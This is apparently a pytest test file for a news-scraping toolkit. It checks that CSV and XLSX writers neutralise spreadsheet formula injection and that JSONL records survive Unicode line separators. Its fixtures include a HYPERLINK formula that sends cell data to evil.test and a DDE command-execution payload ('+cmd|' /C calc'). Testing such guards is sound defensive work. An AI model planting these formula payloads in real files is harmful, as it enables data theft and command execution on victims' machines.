"""Records that hold what a hostile page wrote (issue 23, items 2, 3 and 6): no spreadsheet cell runs as a
formula, one JSON Lines record stays one line for every line reader, a 150,000-character cell reads back;
and `--resume`, `--dedup` and `toolkit report` still find every record."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from html import escape
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import run_cli
from tests.run.hostile import serve_folder
from toolkit.demo.server import DemoSite
from toolkit.discover.model import Found
from toolkit.record import Article, Record
from toolkit.run.output import CsvWriter, JsonlWriter, XlsxWriter, finished_inputs

FORMULA_TITLE = '=HYPERLINK("http://evil.test/?d="&A1,"klik")'
FORMULA_AUTHOR = "+cmd|' /C calc'!A0"
FORMULA_SECTION = "@SUM(1+1)"
FORMULA_TEXT = "-2+3 adalah angka yang ditulis warga desa di papan tulis sekolah setiap pagi hari."
SEPARATORS = "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\r"
"""Every character `str.splitlines` splits on, but \\n."""
PAGE_SEPARATORS = "\x85\u2028\u2029"
"""The ones real pages hold (the others make a page look like binary data)."""
PARAGRAPHS = [f"Paragraf {n}: warga desa membangun jembatan bambu baru di atas sungai yang deras setiap musim hujan."
              for n in range(6)]  # fmt: skip


def hostile_page(title: str, paragraphs: list[str], head: str = "") -> str:
    body = "".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    return (f"<!DOCTYPE html><html lang='id'><head><meta charset='utf-8'><title>{escape(title)}</title>{head}</head>"
            f"<body><article><h1>{escape(title)}</h1>{body}</article></body></html>")  # fmt: skip


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Pages whose words are formulas, line separators or Rich markup, served on 127.0.0.1."""
    folder = tmp_path_factory.mktemp("hostile-site")
    pages = {
        "formula.html": hostile_page(FORMULA_TITLE, [FORMULA_TEXT, *PARAGRAPHS],
                                     head=f"<meta name='author' content=\"{escape(FORMULA_AUTHOR)}\">"
                                     f"<meta property='article:section' content='{FORMULA_SECTION}'>"),
        "separators.html": hostile_page("Jembatan Bambu", [p.replace("desa ", f"desa{PAGE_SEPARATORS}")
                                                            for p in PARAGRAPHS]),
        "markup.html": hostile_page("Judul [/] berita [bold]x[/bold]", PARAGRAPHS),
        "plain.html": hostile_page("Jembatan Desa", PARAGRAPHS),
    }  # fmt: skip
    for name, html in pages.items():
        (folder / name).write_text(html, encoding="utf-8")
    with serve_folder(folder) as base:
        yield base


def formula_record(url: str = "https://berita.example.test/a") -> Record:
    article = Article(title=FORMULA_TITLE, authors=[FORMULA_AUTHOR, "Siti"], section=FORMULA_SECTION,
                      tags=["\tkopi", "\rteh", "=1+1"], text=FORMULA_TEXT, site="generic", pages=2)  # fmt: skip
    return Record.ok(url, article, final_url=url, http_status=200, elapsed_ms=1500)


GUARDED = {"title": FORMULA_TITLE, "authors": f"{FORMULA_AUTHOR}; Siti", "section": FORMULA_SECTION,
           "tags": "\tkopi; \rteh; =1+1", "text": FORMULA_TEXT}  # fmt: skip
"""Cells of `formula_record` that begin like a formula, as the record has them."""


def assert_no_formula_cells(path: Path) -> dict[str, object]:
    """Open an xlsx as a spreadsheet library does: no formula cell, no value that starts with `=`; the row."""
    sheet = load_workbook(path)["records"]
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")))
    return dict(zip(header, [cell.value for cell in sheet[2]], strict=False))


def test_spreadsheet_cells_never_start_a_formula(tmp_path: Path) -> None:
    record = formula_record()
    with XlsxWriter(tmp_path / "out.xlsx") as writer:
        writer.write(record)
    row = assert_no_formula_cells(tmp_path / "out.xlsx")
    for name, value in GUARDED.items():
        assert row[name] == "'" + value, name
    assert (row["word_count"], row["http_status"], row["pages"], row["elapsed_ms"]) == (record.word_count, 200, 2, 1500)
    assert row["url"] == "https://berita.example.test/a"

    with CsvWriter(tmp_path / "out.csv") as writer:
        writer.write(record)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        header, cells = list(csv.reader(file))
    by_name = dict(zip(header, cells, strict=True))
    for name, value in GUARDED.items():
        assert by_name[name] == "'" + value.replace("\r", "\n"), name  # CR inside a cell is LF (see CsvWriter)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert by_name["word_count"] == str(record.word_count) and by_name["http_status"] == "200"
    assert "access_checks" not in header and header[-1] == "source"  # the record's fields, no empty extra column
    assert finished_inputs(tmp_path / "out.csv") == {"https://berita.example.test/a": 1}


def test_scrape_of_a_formula_page_to_csv_and_xlsx(hostile_site: str, tmp_path: Path) -> None:
    url = f"{hostile_site}/formula.html"
    for name in ("out.csv", "out.xlsx"):
        done = run_cli("scrape", url, "--no-robots", "-o", str(tmp_path / name), cwd=tmp_path)
        assert done.returncode == 0, done.stdout + done.stderr
    row = assert_no_formula_cells(tmp_path / "out.xlsx")
    assert row["title"] == "'" + FORMULA_TITLE and row["section"] == "'" + FORMULA_SECTION
    assert str(row["authors"]).startswith("'+cmd") and str(row["text"]).startswith("'-2+3")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        (csv_row,) = list(csv.DictReader(file))
    assert csv_row["title"] == "'" + FORMULA_TITLE and csv_row["section"] == "'" + FORMULA_SECTION
    assert csv_row["authors"].startswith("'+cmd") and csv_row["text"].startswith("'-2+3")
    resumed = run_cli("scrape", url, "--no-robots", "-o", str(tmp_path / "out.csv"), "--resume", cwd=tmp_path)
    assert resumed.returncode == 0 and "1 inputs already done, 0 to go" in resumed.stdout, resumed.stdout


def test_resume_and_dedup_find_urls_behind_a_formula_guard(tmp_path: Path) -> None:
    """An input that starts like a formula is written guarded and still recognised by --resume."""
    record = Record(url="-strange-input", status="skipped", error={"kind": "robots", "message": "Disallow: /"})
    path = tmp_path / "out.csv"
    with CsvWriter(path) as writer:
        writer.write(record)
    assert "'-strange-input" in path.read_text(encoding="utf-8-sig")
    assert finished_inputs(path) == {"-strange-input": 1}


def test_jsonl_keeps_one_record_per_line(tmp_path: Path) -> None:
    text = f"Paragraf satu{SEPARATORS}masih satu.\n\nParagraf dua{SEPARATORS}"
    records = [formula_record(f"https://berita.example.test/{n}") for n in range(3)]
    records[1].title, records[1].text = f"Judul{SEPARATORS}berita", text
    path = tmp_path / "out.jsonl"
    with JsonlWriter(path) as writer:
        for record in records:
            writer.write(record)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 3
    back = json.loads(lines[1])
    assert back["title"] == f"Judul{SEPARATORS}berita" and back["text"] == text
    assert finished_inputs(path) == {record.url: 1 for record in records}
    found = Found("https://berita.example.test/x", None, f"Judul{SEPARATORS}berita", "sitemap")
    (line,) = found.to_json().splitlines()
    assert json.loads(line)["title"] == found.title


def test_files_with_raw_separators_are_read_by_newline_only(tmp_path: Path) -> None:
    """A JSONL written raw (by an earlier version, or another tool) still gives one record per line."""
    record = formula_record("https://berita.example.test/raw").to_dict()
    record["text"] = f"satu{PAGE_SEPARATORS}dua"
    path = tmp_path / "raw.jsonl"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    assert len(path.read_text(encoding="utf-8").splitlines()) > 1  # what the toolkit used to split it into
    assert finished_inputs(path) == {"https://berita.example.test/raw": 1}
    report = run_cli("report", str(path), "-o", str(tmp_path / "raw.html"), cwd=tmp_path)
    assert report.returncode == 0 and "1 records: 1 ok" in report.stdout, report.stdout + report.stderr


def test_scrape_resume_and_report_of_a_page_with_separators(hostile_site: str, tmp_path: Path) -> None:
    urls = [f"{hostile_site}/separators.html", f"{hostile_site}/plain.html"]
    out = tmp_path / "out.jsonl"
    done = run_cli("scrape", *urls, "--no-robots", "-o", str(out), cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2
    records = {r["url"]: r for r in map(json.loads, lines)}
    assert PAGE_SEPARATORS in records[urls[0]]["text"]  # the page's separators are kept, as text
    resumed = run_cli("scrape", *urls, "--no-robots", "-o", str(out), "--resume", cwd=tmp_path)
    assert resumed.returncode == 0 and "2 inputs already done, 0 to go" in resumed.stdout, resumed.stdout
    assert len(out.read_text(encoding="utf-8").splitlines()) == 2
    report = run_cli("report", str(out), cwd=tmp_path)
    assert report.returncode == 0 and "2 records: 2 ok" in report.stdout, report.stdout + report.stderr


def test_resume_and_dedup_read_a_csv_with_a_long_article(hostile_site: str, tmp_path: Path) -> None:
    done_url = f"{hostile_site}/plain.html"
    long = Record.ok(done_url, Article(title="Panjang", text="kata " * 30_000, site="generic"), final_url=done_url)
    assert len(long.text) >= 150_000
    out = tmp_path / "out.csv"
    with CsvWriter(out) as writer:
        writer.write(long)
    assert finished_inputs(out) == {done_url: 1}
    resumed = run_cli("scrape", done_url, f"{hostile_site}/markup.html", "--no-robots", "-o", str(out), "--resume",
                      cwd=tmp_path)  # fmt: skip
    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
    assert "1 inputs already done, 1 to go" in resumed.stdout
    with out.open(encoding="utf-8-sig", newline="") as file:
        csv.field_size_limit(1_000_000)
        rows = list(csv.DictReader(file))
    assert [row["url"] for row in rows] == [done_url, f"{hostile_site}/markup.html"]
    assert len(rows[0]["text"]) == len(long.text)


def test_dedup_reads_a_csv_with_a_long_article(demo_site: DemoSite, tmp_path: Path) -> None:
    seen = demo_site.url(1001)
    earlier = tmp_path / "earlier.csv"
    with CsvWriter(earlier) as writer:
        writer.write(Record.ok(seen, Article(title="Panjang", text="kata " * 30_000, site="generic"), final_url=seen))
    done = run_cli("discover", demo_site.base_url, "--dedup", str(earlier), cwd=tmp_path)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    urls = done.stdout.split()
    assert urls and seen not in urls and demo_site.url(2002) in urls
